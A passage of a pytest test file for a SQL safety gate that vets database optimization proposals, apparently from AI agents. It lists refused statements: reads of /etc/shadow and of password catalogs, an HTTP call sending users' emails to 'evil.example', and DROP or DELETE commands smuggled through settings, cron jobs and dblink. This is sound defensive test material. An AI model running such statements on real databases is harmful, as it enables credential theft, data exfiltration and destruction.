          "GROUP BY customer_id) SELECT c.*, rank() OVER (ORDER BY n DESC) AS r FROM c "
          "UNION ALL SELECT 0, 0, 0",
          "CREATE UNIQUE INDEX mv_customer ON mv (customer_id)",
          "REFRESH MATERIALIZED VIEW CONCURRENTLY mv"),
         "medium", ("DROP INDEX IF EXISTS mv_customer", "DROP MATERIALIZED VIEW IF EXISTS mv"),
         "materialized_view"),
    Good("mv-no-data", ("CREATE MATERIALIZED VIEW reports.mv AS SELECT 1 AS one WITH NO DATA",
                        "REFRESH MATERIALIZED VIEW reports.mv"),
         "medium", ("DROP MATERIALIZED VIEW IF EXISTS reports.mv",), "materialized_view",
         warning="WITH NO DATA"),
    Good("refresh-only", ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv",), "medium", (), "materialized_view"),
    Good("partitioning-recipe",
         (*PARTITION_PREFIX,
          "CREATE TABLE orders_p_2025 PARTITION OF orders_p FOR VALUES FROM ('2025-01-01') TO ('2026-01-01')",
          "ALTER TABLE orders RENAME TO orders_old",
          "ALTER TABLE orders_p RENAME TO orders",
          "ANALYZE orders"),
         "high",
         ("ALTER TABLE IF EXISTS orders RENAME TO orders_p",
          "ALTER TABLE IF EXISTS orders_old RENAME TO orders",
          "DROP TABLE IF EXISTS orders_p_2025",
          "DROP TABLE IF EXISTS orders_p_2024",
          "DROP TABLE IF EXISTS orders_p"),
         "partitioning", 0.7, warning="best effort"),
    Good("partitioning-with-drop",
         (*PARTITION_PREFIX,
          "ALTER TABLE orders RENAME TO orders_old",
          "ALTER TABLE orders_p RENAME TO orders",
          "DROP TABLE orders_old",
          "CREATE INDEX orders_created ON orders (created_at)"),
         "high", ("DROP INDEX IF EXISTS orders_created",), "partitioning", 0.2, warning="cannot be undone"),
    Good("partitioning-rename-first",
         ("ALTER TABLE public.events RENAME TO events_old",
          "CREATE TABLE events (LIKE events_old) PARTITION BY LIST (kind)",
          "CREATE TABLE events_click PARTITION OF events FOR VALUES IN ('click')",
          "CREATE TABLE events_other PARTITION OF events DEFAULT",
          "INSERT INTO events (id, user_id, kind, payload, created_at) "
          "SELECT id, user_id, kind, payload, created_at FROM events_old",
          "DROP TABLE events_old"),
         "high", (), "partitioning", 0.2),
    Good("partitioning-attach",
         ("CREATE TABLE m (LIKE metrics INCLUDING DEFAULTS) PARTITION BY HASH (device_id)",
          "CREATE TABLE m0 (LIKE metrics)",
          "ALTER TABLE m ATTACH PARTITION m0 FOR VALUES WITH (MODULUS 2, REMAINDER 0)",
          "CREATE TABLE m1 PARTITION OF m FOR VALUES WITH (MODULUS 2, REMAINDER 1)",
          "INSERT INTO m SELECT * FROM metrics"),
         "high",
         ("DROP TABLE IF EXISTS m1",
          "ALTER TABLE IF EXISTS m DETACH PARTITION m0",
          "DROP TABLE IF EXISTS m0",
          "DROP TABLE IF EXISTS m"),
         "partitioning", 0.8, warning="copies every row"),
    Good("partitioning-attaches-the-old-table",
         ("ALTER TABLE orders RENAME TO orders_old",
          "CREATE TABLE orders (LIKE orders_old INCLUDING ALL) PARTITION BY RANGE (created_at)",
          "ALTER TABLE orders ATTACH PARTITION orders_old FOR VALUES FROM (MINVALUE) TO ('2025-01-01')",
          "CREATE TABLE orders_2025 PARTITION OF orders FOR VALUES FROM ('2025-01-01') TO (MAXVALUE)"),
         "high",
         ("DROP TABLE IF EXISTS orders_2025",
          "ALTER TABLE IF EXISTS orders DETACH PARTITION orders_old",
          "DROP TABLE IF EXISTS orders",
          "ALTER TABLE IF EXISTS orders_old RENAME TO orders"),
         "partitioning", 0.7),
    Good("partitioning-copies-column-by-column-and-drops",
         ("CREATE TABLE n (LIKE orders) PARTITION BY RANGE (created_at)",
          "CREATE TABLE n_all PARTITION OF n DEFAULT",
          f"INSERT INTO n ({ORDER_COLUMNS}) SELECT o.id, {ORDER_COLUMNS.removeprefix('id, ')} "
          "FROM public.orders AS o",
          "ALTER TABLE orders RENAME TO orders_old",
          "ALTER TABLE n RENAME TO orders",
          "DROP TABLE public.orders_old"),
         "high", (), "partitioning", 0.2, warning="cannot be undone"),
    Good("partitioning-drops-its-own-table",
         ("CREATE TABLE scratch (LIKE orders)", "DROP TABLE scratch"),
         "high", ("DROP TABLE IF EXISTS scratch",), "partitioning", 0.8),
]


@pytest.mark.parametrize("case", LEGITIMATE, ids=[c.id for c in LEGITIMATE])
def test_legitimate_statements_pass(case: Good) -> None:
    result = validate_proposal(case.commands, case.proposal_type)
    assert result.rejected == ()
    assert result.is_valid
    assert result.risk_level == case.risk
    assert result.rollback_commands == case.rollback
    assert result.reversibility == pytest.approx(case.reversibility)
    if case.warning is not None:
        assert any(case.warning in w for w in result.warnings), result.warnings
    for command in result.rollback_commands:  # rollback SQL is itself one parseable statement
        assert len(pglast.parse_sql(command)) == 1


def test_concurrently_index_has_no_lock_warning() -> None:
    result = validate_proposal(["CREATE INDEX CONCURRENTLY i ON t (a)"], "index")
    assert not any(NO_CONCURRENTLY in w for w in result.warnings)
    assert any(NO_CONCURRENTLY in w for w in validate_proposal(["CREATE INDEX i ON t (a)"], "index").warnings)


def test_warnings_are_not_repeated() -> None:
    result = validate_proposal(["CREATE INDEX a ON t (a)", "CREATE INDEX b ON t (b)"], "index")
    assert len([w for w in result.warnings if NO_CONCURRENTLY in w]) == 1


def test_a_single_string_counts_as_one_command() -> None:
    result = validate_proposal("CREATE INDEX i ON t (a)", "index")
    assert result.is_valid


def test_unknown_proposal_type_is_an_input_error() -> None:
    with pytest.raises(InputError, match="unknown proposal type"):
        validate_proposal(["CREATE INDEX i ON t (a)"], "yolo")


def test_result_type() -> None:
    assert isinstance(validate_proposal(["ANALYZE"], "index"), ValidationResult)


# -- the query to optimize --------------------------------------------------------------------
@pytest.mark.parametrize(("sql", "expected"), [
    ("SELECT * FROM orders WHERE customer_id = 42", "SELECT * FROM orders WHERE customer_id = 42"),
    ("  select 1;  ", "select 1"),
    ("SELECT 1 -- trailing comment\n; /* another */", "SELECT 1"),
    ("WITH c AS (SELECT customer_id, count(*) n FROM orders GROUP BY 1) SELECT * FROM c ORDER BY n DESC",
     None),
    ("SELECT customer_id, sum(total) OVER (PARTITION BY customer_id ORDER BY created_at) FROM orders", None),
    ("SELECT a FROM t UNION SELECT a FROM u EXCEPT SELECT a FROM v", None),
    ("VALUES (1, 'a'), (2, 'b')", None),
    ("TABLE orders", None),
    ("SELECT * FROM t WHERE a IN (SELECT a FROM u WHERE u.b > now() - interval '1 day')", None),
    ("SELECT txid_current()", None),
    ("SELECT * FROM orders o JOIN LATERAL (SELECT * FROM items i WHERE i.order_id = o.id LIMIT 3) x ON true",
     None),
    ("SELECT 'é; DROP TABLE t' AS s", "SELECT 'é; DROP TABLE t' AS s"),
    ("/*+ SeqScan(t) */ SELECT * FROM t; -- planner hints stay", "/*+ SeqScan(t) */ SELECT * FROM t"),
    ("-- the slow report\nSELECT 1", "-- the slow report\nSELECT 1"),
    ("; SELECT 1", "SELECT 1"),
])
def test_check_query_accepts_read_only_selects(sql: str, expected: str | None) -> None:
    assert check_query(sql) == (expected if expected is not None else sql)


def test_check_query_result_can_be_wrapped() -> None:
    query = check_query("SELECT a FROM t -- the slow one\n")
    wrapped = f"SELECT count(*) FROM ({query}) q"
    assert len(pglast.parse_sql(wrapped)) == 1


@pytest.mark.parametrize(("sql", "reason"), [
    ("", "empty query"),
    ("   \n ", "empty query"),
    ("-- just a comment", "empty query"),
    ("/* SELECT 1 */", "empty query"),
    ("SELECT 1; SELECT 2", "several statements"),
    ("SELECT 1; DROP TABLE t", "several statements"),
    ("SELECT 1 /* ; */ ; -- x\n DELETE FROM t", "several statements"),
    ("SELEC * FRM t", "does not parse"),
    ("SELECT * FROM", "does not parse"),
    ("DELETE FROM t", "DELETE"),
    ("INSERT INTO t VALUES (1)", "INSERT"),
    ("UPDATE t SET a = 1", "UPDATE"),
    ("CREATE INDEX i ON t (a)", "CREATE INDEX"),
    ("EXPLAIN SELECT 1", "EXPLAIN"),
    ("COPY t TO STDOUT", "COPY"),
    ("SELECT * INTO t2 FROM t", "SELECT INTO"),
    ("SELECT * FROM t FOR UPDATE", "FOR UPDATE"),
    ("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "FOR UPDATE"),
    ("SELECT * FROM (SELECT * FROM t FOR SHARE) s", "FOR UPDATE/SHARE"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "data-modifying"),
    ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u", "data-modifying"),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "data-modifying"),
    ("SELECT pg_sleep(10)", "pg_sleep"),
    ("SELECT * FROM t, LATERAL pg_sleep(1)", "pg_sleep"),
    ("SELECT * FROM ROWS FROM (pg_sleep(1))", "pg_sleep"),
    ('SELECT U&"pg\\005fsleep"(1)', "pg_sleep"),
    ('SELECT "pg_sleep"(1)', "pg_sleep"),
    ("SELECT a FROM t ORDER BY pg_sleep(1)", "pg_sleep"),
    ("SELECT pg_catalog.pg_sleep_for('1 minute')", "pg_sleep_for"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
    ("SELECT * FROM t WHERE a = (SELECT pg_cancel_backend(1)::int)", "pg_cancel_backend"),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", "dblink"),
    ("SELECT nextval('orders_id_seq')", "nextval"),
    ("SELECT setval('orders_id_seq', 1)", "setval"),
    ("SELECT set_config('work_mem', '1GB', false)", "set_config"),
    ("SELECT pg_reload_conf()", "pg_reload_conf"),
    ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
    ("SELECT pg_read_binary_file('/etc/shadow')", "pg_read_binary_file"),
    ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
    ("SELECT pg_try_advisory_lock(1)", "advisory"),
    ("SELECT pg_notify('ch', 'x')", "pg_notify"),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "replication_slot"),
    ("SELECT pg_switch_wal()", "pg_switch_wal"),
    ("SELECT query_to_xml('DELETE FROM t', true, true, '')", "query_to_xml"),
    ("SELECT count(*) FROM t GROUP BY a HAVING max(pg_logical_emit_message(true, 'x', 'y')::text) > ''",
     "pg_logical_emit_message"),
    ("SELECT * FROM crosstab('SELECT pg_sleep(60)::text, 1, 1') AS t(a text, b int)", "crosstab"),
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT pg_reload_conf()')", "ts_rewrite"),
    ("SELECT pg_buffercache_evict_all()", "pg_buffercache_evict"),
    ("SELECT 1\x00; DROP TABLE t", "NUL character"),
])
def test_check_query_refuses(sql: str, reason: str) -> None:
    with pytest.raises(UnsafeSqlError) as info:
        check_query(sql)
    assert reason in info.value.reason
    assert isinstance(info.value.statement, str)


# -- splitting scripts ------------------------------------------------------------------------
def test_split_statements() -> None:
    script = """
        -- the index
        CREATE INDEX i ON t (a);  /* then */
        ANALYZE t; -- stats
        SELECT ';' AS semicolon_in_string;
    """
    assert split_statements(script) == [
        "CREATE INDEX i ON t (a)", "ANALYZE t", "SELECT ';' AS semicolon_in_string",
    ]
    assert split_statements("  -- nothing\n ") == []


def test_split_statements_keeps_broken_pieces_for_judging() -> None:
    pieces = split_statements("CREATE INDEX i ON t (a); THIS IS NOT SQL; ANALYZE t")
    assert pieces == ["CREATE INDEX i ON t (a)", "THIS IS NOT SQL", "ANALYZE t"]
    result = validate_proposal(pieces, "index")
    assert [r.statement for r in result.rejected] == ["THIS IS NOT SQL"]


def test_split_statements_refuses_what_cannot_be_scanned() -> None:
    with pytest.raises(UnsafeSqlError, match="does not parse"):
        split_statements("SELECT 'unterminated")
    with pytest.raises(UnsafeSqlError, match="NUL character"):
        split_statements("CREATE INDEX i ON t (a);\x00 DROP TABLE t")


def test_denied_function_names() -> None:
    assert denied_function(("pg_catalog", "pg_sleep"))
    assert denied_function(("dblink_exec",))
    assert not denied_function(("cron", "schedule"))  # an extension's function: the catalog refuses it
    assert denied_function(("PG_TERMINATE_BACKEND",))
    assert not denied_function(("count",))
    assert not denied_function(("txid_current",))
    assert not denied_function(("date_trunc",))
    assert denied_function(("pg_qualstats_reset",))
    assert not denied_function(("pg_stat_get_db_stat_reset_time",))
    assert not denied_function(())


# -- per-query settings ------------------------------------------------------------------------
@pytest.mark.parametrize("settings", [(("work_mem", "64MB"),), (("work_mem", "1GB"),),
                                      (("hash_mem_multiplier", "4"),), (("work_mem", "65536"),)])
def test_settings_a_proposal_may_recommend(settings: tuple[tuple[str, str], ...]) -> None:
    assert check_settings(settings) == []


@pytest.mark.parametrize("settings", [
    (("shared_buffers", "1GB"),), (("work_mem", "64MB; DROP TABLE users"),), (("work_mem", "3GB"),),
    (("work_mem", "1kB"),), (("search_path", "evil"),), (("hash_mem_multiplier", "1000"),),
    (("session_replication_role", "replica"),),
])
def test_settings_refused(settings: tuple[tuple[str, str], ...]) -> None:
    assert len(check_settings(settings)) == 1


def test_a_settings_only_proposal_validates_without_commands() -> None:
    def proposal(settings: tuple[tuple[str, str], ...]) -> OptimizationProposal:
        return OptimizationProposal("gemini25pro", "query_rewrite", (), (), "sort in memory",
                                    EstimatedImpact(50, 0, "low", "low"), settings=settings)
    assert validate_candidate(proposal((("work_mem", "128MB"),))).is_valid
    refused = validate_candidate(proposal((("fsync", "off"),)))
    assert not refused.is_valid and "work_mem" in refused.rejected[0].reason
    assert not validate_candidate(proposal(())).is_valid  # nothing at all


# -- what only the catalog can judge: a real fork of the demo database -----------------------------
# The fork holds what a user's database may hold: functions and aggregates of its own (one falsely
# marked IMMUTABLE, one SECURITY DEFINER, one overloading a built-in name), an operator, a cast and
# a domain backed by such functions, extensions (trusted ones and others), schemas named like
# well-known extensions (aws_s3, cron, net), a foreign table, and an index, statistics and a view
# of the user's own. Names that only look dangerous (a table http_requests with columns http_x,
# lo_x, nextval) must not be refused.
FORK_SETUP = (Path(__file__).parent / "data" / "hostile_catalog.sql").read_text()


@pytest.fixture(scope="module")
def hostile_fork(sandbox: SandboxServer) -> Iterator[ForkInfo]:
    """A fork of the demo database holding `FORK_SETUP` (made by the superuser); removed after."""
    provider = LocalForkProvider(sandbox.dsn())
    fork = trio.run(functools.partial(provider.fork, "afs_demo", ttl_seconds=900))
    try:
        with connect_sync(sandbox.dsn(fork.name)) as admin:
            admin.execute(FORK_SETUP)
        yield fork
    finally:
        trio.run(provider.delete, fork.name)


@pytest.fixture(scope="module")
def fork_conn(hostile_fork: ForkInfo) -> Iterator[psycopg.Connection[Any]]:
    """A connection as the fork's own role, as an agent has."""
    with connect_sync(hostile_fork.dsn) as conn:
        yield conn


def judged(conn: psycopg.Connection[Any], refs: References,
           resolve: bool = True) -> tuple[UnsafeStatement, ...]:
    """`judge_references` on the facts of the real catalog (the SQL that `catalog_facts` runs),
    then `judge_resolved` on what PostgreSQL resolves (`resolve_sync`), as `catalog_problems`
    (unless `resolve` is False: the names only)."""
    rows = conn.execute(CATALOG_SQL, catalog_params(refs)).fetchall() if refs.refs else []
    problems = judge_references(refs, facts_from_rows(rows))
    if problems or not resolve:
        return problems
    return judge_resolved(refs, *resolve_sync(conn, refs))


@dataclass(frozen=True)
class Case:
    """A statement judged as the workflow judges it: structure first, then the fork's catalog.

    `kind` is a proposal type, "query" (the query a user asks to optimize) or "rewrite" (`sql`
    holds one query, proposed as the rewrite of a query_rewrite proposal).
    """

    id: str
    sql: tuple[str, ...]
    reason: str = ""  # for a refused one: a fragment of the reason
    kind: str = "index"


def refusals(conn: psycopg.Connection[Any], case: Case, resolve: bool = True) -> tuple[UnsafeStatement, ...]:
    """What the gate refuses of `case`, as agents.py and optimize.py apply it (`resolve`: also
    what PostgreSQL resolves it to, which needs the objects it names to exist)."""
    if case.kind == "query":
        (query,) = case.sql
        try:
            text = check_query(query)
        except UnsafeSqlError as exc:
            return (UnsafeStatement(query, exc.reason),)
        return judged(conn, query_references(text), resolve)
    commands, rewrite = (case.sql, None) if case.kind != "rewrite" else ((), case.sql[0])
    ptype: Any = "query_rewrite" if rewrite else case.kind  # a plain string: the corpus names types
    p = OptimizationProposal("gemini25pro", ptype, commands, (), "test", EstimatedImpact(50, 0, "low", "low"),
                             rewritten_query=rewrite)
    validation = validate_candidate(p)
    if not validation.is_valid:
        return validation.rejected
    if rewrite is not None:
        try:
            check_query(rewrite)
        except UnsafeSqlError as exc:
            return (UnsafeStatement(rewrite, exc.reason),)
    return judged(conn, proposal_references(p), resolve)


MV = "materialized_view"
PART = "partitioning"
CATALOG_DANGEROUS: list[Case] = [
    # functions defined in the database, wherever they are called
    Case("user-function-in-index", ("CREATE INDEX x1 ON orders ((public.fake_pure(id)))",),
         "defined in the database"),
    Case("unqualified-user-function-in-index", ("CREATE INDEX x1 ON orders ((fake_pure(id)))",),
         "not built in"),
    Case("user-function-in-partial-index", ("CREATE INDEX x1 ON orders (id) WHERE fake_pure(id) > 0",),
         "public.fake_pure()"),
    Case("user-function-in-statistics", ("CREATE STATISTICS x1 ON (fake_pure(id)), status FROM orders",),
         "not built in", "statistics"),
    Case("user-function-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT evil(id) FROM orders",),
         "not built in", MV),
    Case("user-function-in-mv-subquery",
         ("CREATE MATERIALIZED VIEW x1 AS SELECT * FROM orders WHERE id IN (SELECT evil(1))",), "evil", MV),
    Case("user-aggregate-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT evil_sum(id) FROM orders",),
         "public.evil_sum()", MV),
    Case("security-definer-in-index", ("CREATE INDEX x1 ON orders ((owner_rights(id)))",),
         "SECURITY DEFINER"),
    Case("shadowing-overload-in-index", ("CREATE INDEX x1 ON orders ((upper(status::varchar)))",),
         "public.upper()"),
    Case("user-function-in-rewrite", ("SELECT fake_pure(id) FROM orders WHERE status = 'paid'",),
         "not built in", "rewrite"),
    Case("user-function-in-query", ("SELECT evil(id) FROM orders",), "not built in", "query"),
    Case("user-function-in-query-order-by", ("SELECT id FROM orders ORDER BY fake_pure(id) LIMIT 3",),
         "fake_pure", "query"),
    Case("user-default-in-partitioning",
         ("CREATE TABLE x1 (id bigint DEFAULT evil(1), status text) PARTITION BY LIST (status)",),
         "not built in", PART),
    Case("user-partition-key", ("CREATE TABLE x1 (LIKE orders) PARTITION BY RANGE ((fake_pure(id)))",),
         "not built in", PART),
    Case("user-function-in-copy-filter",
         ("CREATE TABLE x1 (LIKE orders) PARTITION BY RANGE (created_at)",
          "CREATE TABLE x1_all PARTITION OF x1 DEFAULT",
          "INSERT INTO x1 SELECT * FROM orders WHERE evil(id) = 1"), "not built in", PART),
    # extensions and schemas named like them
    Case("heap-force-kill", ("CREATE MATERIALIZED VIEW x1 AS SELECT heap_force_kill('orders'::regclass, "
                             "ARRAY['(0,1)']::tid[])",), "extension pg_surgery", MV),
    Case("aws-s3-export", ("CREATE MATERIALIZED VIEW x1 AS SELECT aws_s3.query_export_to_s3("
                           "'SELECT * FROM users', 'bucket')",), "aws_s3.query_export_to_s3()", MV),
    Case("cron-schedule-in-predicate",
         ("CREATE INDEX x1 ON orders (id) WHERE cron.schedule('x', 'DROP TABLE orders') > 0",),
         "cron.schedule()"),
    Case("net-http-get-in-rewrite", ("SELECT net.http_get('http://evil.example/' || email) FROM users",),
         "net.http_get()", "rewrite"),
    Case("untrusted-extension-function", ("CREATE MATERIALIZED VIEW x1 AS SELECT * FROM "
         "normal_rand(10, 0, 1)",),
         "extension tablefunc", MV),
    Case("pgstattuple-in-query", ("SELECT * FROM pgstattuple('orders')",), "extension pgstattuple", "query"),
    # operators and casts backed by functions of the database
    Case("user-operator-in-predicate", ("CREATE INDEX x1 ON orders (id) WHERE status === 'paid'",),
         "operator === runs public.eq_evil()"),
    Case("qualified-user-operator", ("SELECT id FROM orders WHERE status OPERATOR(public.===) 'paid'",),
         "public.eq_evil()", "query"),
    Case("user-operator-in-any-sublink",
         ("CREATE MATERIALIZED VIEW x1 AS SELECT id FROM orders WHERE status === ANY (SELECT 'a')",),
         "eq_evil", MV),
    Case("user-cast", ("CREATE MATERIALIZED VIEW x1 AS SELECT (id::int)::pair AS p FROM orders",),
         "public.to_pair()", MV),
    Case("domain-with-user-check", ("CREATE MATERIALIZED VIEW x1 AS SELECT status::checked_text "
         "FROM orders",),
         "public.check_fn()", MV),
    Case("column-of-a-domain-with-user-check",
         ("CREATE TABLE x1 (id bigint, s checked_text) PARTITION BY RANGE (id)",), "public.check_fn()", PART),
    Case("order-by-using-a-user-operator", ("SELECT id FROM orders ORDER BY status USING === LIMIT 3",),
         "eq_evil", "rewrite"),
    Case("unknown-type", ("CREATE MATERIALIZED VIEW x1 AS SELECT 'x'::no_such_type",), "does not exist", MV),
    Case("unknown-function", ("CREATE INDEX x1 ON orders ((no_such_function(id)))",), "does not exist"),
    # side effects and volatility of built-in functions the name lists do not cover
    Case("volatile-setseed-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT setseed(0.5)",), "VOLATILE", MV),
    Case("volatile-export-snapshot-in-query", ("SELECT pg_export_snapshot() FROM orders",),
         "VOLATILE", "query"),
    Case("volatile-currval-in-rewrite", ("SELECT currval('orders_id_seq') FROM orders",),
         "VOLATILE", "rewrite"),
    Case("stable-now-in-index", ("CREATE INDEX x1 ON orders ((now()))",), "not IMMUTABLE"),
    Case("volatile-random-in-index", ("CREATE INDEX x1 ON orders (id) WHERE random() < 0.5",),
         "not IMMUTABLE"),
    # system relations however they are named
    Case("unqualified-pg-authid-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT rolname, rolpassword "
                                         "FROM pg_authid",), "pg_catalog.pg_authid", MV),
    Case("unqualified-catalog-index", ("CREATE INDEX x1 ON pg_class (relname)",), "system relation"),
    Case("unqualified-catalog-statistics", ("CREATE STATISTICS x1 ON relname, relkind FROM pg_class",),
         "system relation", "statistics"),
    Case("unqualified-catalog-in-rewrite", ("SELECT pid, query FROM pg_stat_activity",), "system relation",
         "rewrite"),
    Case("unqualified-catalog-in-query", ("SELECT usename, passwd FROM pg_shadow",),
         "system relation", "query"),
    Case("analyze-a-catalog", ("ANALYZE pg_statistic",), "system relation"),
    Case("refresh-a-catalog", ("REFRESH MATERIALIZED VIEW pg_class",), "system relation", MV),
    Case("view-calling-a-user-function", ("SELECT id FROM evil_view WHERE id = 3",), "view public.evil_view",
         "query"),
    Case("view-on-a-view-calling-a-user-function",
         ("CREATE MATERIALIZED VIEW x1 AS SELECT count(*) FROM outer_view",), "public.evil()", MV),
    Case("foreign-table-in-mv", ("CREATE MATERIALIZED VIEW x1 AS SELECT * FROM remote_orders",),
         "foreign table",
         MV),
    # objects that exist already: nothing new, and the rollback would drop the user's own
    Case("if-not-exists-on-users-index", ("CREATE INDEX IF NOT EXISTS orders_status_idx ON orders (status)",),
         "already exists"),
    Case("if-not-exists-on-primary-key", ("CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_pkey ON "
         "orders (id)",),
         "index public.orders_pkey already exists"),
    Case("index-named-like-a-table", ("CREATE INDEX IF NOT EXISTS users ON orders (status)",),
         "table public.users"),
    Case("existing-statistics", ("CREATE STATISTICS IF NOT EXISTS orders_stats ON status, user_id "
         "FROM orders",),
         "already exists", "statistics"),
    Case("existing-mv", ("CREATE MATERIALIZED VIEW IF NOT EXISTS daily AS SELECT 1 AS one",),
         "already exists",
         MV),
    Case("created-table-exists", ("CREATE TABLE products (LIKE orders) PARTITION BY RANGE (created_at)",),
         "already exists", PART),
    # recipes that lose columns
    Case("partial-column-copy-then-drop",
         ("CREATE TABLE x1 (LIKE orders)", "INSERT INTO x1 (id) SELECT id FROM orders", "DROP TABLE orders"),
         "copies only some columns of orders", PART),
    Case("partial-column-copy-renamed-into-place",
         ("CREATE TABLE x1 (LIKE orders) PARTITION BY RANGE (created_at)",
          "CREATE TABLE x1_all PARTITION OF x1 DEFAULT",
          "INSERT INTO x1 (id, status) SELECT id, status FROM orders",
          "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE x1 RENAME TO orders"),
         "not user_id", PART),
    Case("column-by-column-copy-of-a-renamed-table",
         ("ALTER TABLE events RENAME TO events_old",
          "CREATE TABLE events (LIKE events_old) PARTITION BY LIST (kind)",
          "CREATE TABLE events_all PARTITION OF events DEFAULT",
          "INSERT INTO events (id, kind, created_at) SELECT id, kind, created_at FROM events_old",
          "DROP TABLE events_old"),
         "copies only some columns of events", PART),
]

CATALOG_LEGITIMATE: list[Case] = [
    Case("names-that-look-denied", ("CREATE INDEX x2 ON http_requests (http_x, lo_x, nextval)",)),
    Case("names-that-look-denied-in-mv", ("CREATE MATERIALIZED VIEW x2 AS SELECT http_x, lo_x, nextval "
                                          "FROM http_requests",), kind=MV),
    Case("trusted-extension-index", ("CREATE INDEX x2 ON users USING gin (email gin_trgm_ops)",)),
    Case("trusted-extension-operator", ("SELECT id FROM users WHERE email % 'alice'",), kind="query"),
    Case("trusted-extension-function", ("SELECT id, similarity(email, 'bob') FROM users ORDER BY 2 "
         "DESC LIMIT 5",),
         kind="rewrite"),
    Case("user-enum-and-domain-casts", ("SELECT id FROM orders WHERE status::mood = 'ok'::mood "
                                        "AND status::short_text <> ''",), kind="query"),
    Case("user-operator-backed-by-built-in", ("SELECT id FROM orders WHERE status ~~~ 'paid'",),
         kind="query"),
    Case("user-view-in-query", ("SELECT sum(total_amount) FROM paid_orders WHERE user_id = 7",),
         kind="query"),
    Case("every-operator-form", ("SELECT id FROM orders WHERE id BETWEEN 1 AND 9 AND status LIKE 'p%' "
                                 "AND status IN ('paid', 'sent') AND user_id IS DISTINCT FROM 3 "
                                 "AND -id < 0 AND NULLIF(status, 'x') IS NOT NULL "
                                 "AND CASE status WHEN 'paid' THEN true ELSE false END "
                                 "AND user_id = ANY (SELECT id FROM users)",), kind="query"),
    Case("stable-now-in-mv", ("CREATE MATERIALIZED VIEW x2 AS SELECT id FROM orders "
                              "WHERE created_at > now() - interval '7 days'",), kind=MV),
    Case("random-in-query", ("SELECT id FROM orders ORDER BY random() LIMIT 5",), kind="query"),
    Case("clock-in-rewrite", ("SELECT id, clock_timestamp() FROM orders WHERE user_id = 3",), kind="rewrite"),
    Case("immutable-overload-in-index", ("CREATE INDEX x2 ON orders "
                                         "((date_trunc('day', created_at AT TIME ZONE 'UTC')))",)),
    Case("cte-named-like-a-catalog", ("WITH pg_class AS (SELECT id FROM orders) SELECT count(*) "
         "FROM pg_class",),
         kind="query"),
    Case("refresh-the-users-view", ("REFRESH MATERIALIZED VIEW daily",), kind=MV),
    Case("new-index-if-not-exists", ("CREATE INDEX CONCURRENTLY IF NOT EXISTS x2 ON orders (user_id)",)),
    Case("whole-copy-by-columns-and-replace",
         ("CREATE TABLE x2 (LIKE orders) PARTITION BY RANGE (created_at)",
          "CREATE TABLE x2_all PARTITION OF x2 DEFAULT",
          f"INSERT INTO x2 ({ORDER_COLUMNS}) SELECT {ORDER_COLUMNS} FROM orders",
          "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE x2 RENAME TO orders",
          "DROP TABLE orders_old"), kind=PART),
]

# Legitimate for a person, refused by design: a user's own function runs arbitrary code (and may
# be marked IMMUTABLE or STABLE whatever it does), so only built-in functions and those of
# TRUSTED_EXTENSIONS run; system catalogs are not the user's data and cannot be indexed.
REFUSED_BY_DESIGN: list[Case] = [
    Case("users-function-named-like-large-objects", ("SELECT lo_total(total_amount) FROM orders",),
         "defined in the database", "query"),
    Case("index-on-users-immutable-function", ("CREATE INDEX x3 ON orders ((http_status(status)))",),
         "defined in the database"),
    Case("query-on-the-catalog", ("SELECT relname FROM pg_class WHERE relkind = 'r'",),
         "system relation", "query"),
]


@pytest.mark.parametrize("case", CATALOG_DANGEROUS, ids=[c.id for c in CATALOG_DANGEROUS])
def test_the_catalog_refuses(fork_conn: psycopg.Connection[Any], case: Case) -> None:
    refused = refusals(fork_conn, case)
    assert refused, f"accepted: {case.sql}"
    assert any(case.reason in r.reason for r in refused), refused


@pytest.mark.parametrize("case", CATALOG_LEGITIMATE, ids=[c.id for c in CATALOG_LEGITIMATE])
def test_the_catalog_accepts(fork_conn: psycopg.Connection[Any], case: Case) -> None:
    assert refusals(fork_conn, case) == ()


@pytest.mark.parametrize("case", REFUSED_BY_DESIGN, ids=[c.id for c in REFUSED_BY_DESIGN])
def test_refused_by_design(fork_conn: psycopg.Connection[Any], case: Case) -> None:
    refused = refusals(fork_conn, case)
    assert refused and any(case.reason in r.reason for r in refused), refused


def test_the_whole_corpus_against_the_fork(fork_conn: psycopg.Connection[Any]) -> None:
    """Every dangerous statement refused, every legitimate one accepted, structure and catalog."""
    dangerous = [Case(c.id, c.commands, c.reason, c.proposal_type) for c in DANGEROUS] + CATALOG_DANGEROUS
    legitimate = [Case(c.id, c.commands, kind=c.proposal_type) for c in LEGITIMATE] + CATALOG_LEGITIMATE
    accepted = [c.id for c in dangerous if c.sql and not refusals(fork_conn, c)]
    # the structural corpus names tables and columns the demo database does not have (sales.users,
    # metrics, orders.total): PostgreSQL cannot resolve those, so only their names are judged
    structural = {c.id for c in LEGITIMATE}
    refused = {c.id: refusals(fork_conn, c, c.id not in structural) for c in legitimate}
    assert accepted == []
    assert {k: v for k, v in refused.items() if v} == {}
    assert len(dangerous) >= 150 and len(legitimate) >= 40


def test_a_temporary_table_cannot_hide_the_real_one(hostile_fork: ForkInfo,
                                                    fork_conn: psycopg.Connection[Any]) -> None:
    """In a session with a temporary `orders`, the unqualified name resolves to pg_temp_N."""
    with connect_sync(hostile_fork.dsn) as session:
        session.execute("CREATE TEMP TABLE orders (id bigint)")
        case = Case("temp-shadow", ("CREATE INDEX x4 ON orders (id)",))
        refused = refusals(session, case)
    assert refused and "pg_temp" in refused[0].reason
